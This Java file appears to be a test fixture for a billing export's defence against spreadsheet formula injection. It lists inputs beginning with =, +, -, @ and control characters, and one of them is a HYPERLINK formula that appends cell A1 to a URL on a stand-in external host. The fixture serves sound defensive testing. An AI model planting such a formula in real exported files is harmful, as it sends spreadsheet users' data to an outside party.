package io.r1platform.billing.exports;

import java.util.List;

/** Texts that a spreadsheet would compute, beside an amount that begins as some of them do. */
final class FormulaDataset extends Dataset {
  static final List<String> TEXTS =
      List.of(
          "=HYPERLINK(\"https://example.org/?\"&A1,\"x\")",
          "+49 30 1234",
          "-1",
          "@SUM(A1)",
          "\t=1",
          "\r=1",
          "\n=1",
          "'=1");

  FormulaDataset() {
    super(
        "formulas",
        List.of(
            new Column("id", Column.Type.BIGINT, false, ""),
            new Column("text", Column.Type.TEXT, false, ""),
            new Column("cost", Column.Type.DECIMAL, false, "")),
        """
        select * from (values
          (1, '=HYPERLINK("https://example.org/?"&A1,"x")', -1.5), (2, '+49 30 1234', -1.5),
          (3, '-1', -1.5), (4, '@SUM(A1)', -1.5), (5, E'\\t=1', -1.5), (6, E'\\r=1', -1.5),
          (7, E'\\n=1', -1.5), (8, '''=1', -1.5)
        ) as formulas(id, text, cost)
        where :from < :to and :organization is null order by id
        """);
  }
}
